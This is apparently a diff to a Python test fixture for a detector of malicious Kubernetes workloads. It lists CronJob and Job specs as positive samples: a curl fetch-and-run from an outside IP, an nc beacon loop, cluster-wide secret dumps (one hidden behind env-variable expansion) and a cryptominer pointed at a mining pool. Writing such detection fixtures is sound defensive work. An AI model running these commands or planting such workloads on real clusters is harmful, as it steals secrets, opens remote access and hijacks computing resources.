@@ -180,6 +180,9 @@ for name, cmd in [("fetch-run", "curl -so /tmp/u http://198.51.100.7/u; sh /tmp/
                   ("nc-beacon", "while true; do nc 203.0.113.9 4444; sleep 60; done"),
                   ("secret-sweep", "kubectl get secrets -A -o yaml > /tmp/s; sleep 3600")]:
     add("commands", True, "cronjobs", "default", name, {"containers": [container("bitnami/kubectl:1.31", sh + [cmd])]})
+# the same through the kubelet's $(VAR) expansion of a literal env value
+add("commands", True, "cronjobs", "default", "env-indirect",
+    {"containers": [container("bitnami/kubectl:1.31", sh + ["$(TASK)"], env=[{"name": "TASK", "value": "kubectl get secret --all-namespaces -o json"}])]})
 add("commands", True, "jobs", "default", "kworker",
     {"containers": [container("ghcr.io/acme/tools:1", ["/usr/local/bin/kworker"], args=["-o", "pool.supportxmr.com:3333", "-u", "4Axyz", "--cpu-priority", "5"])]})
 # benign: a database dump CronJob (postgres), a curl health check, a kubectl rollout in its own namespace.
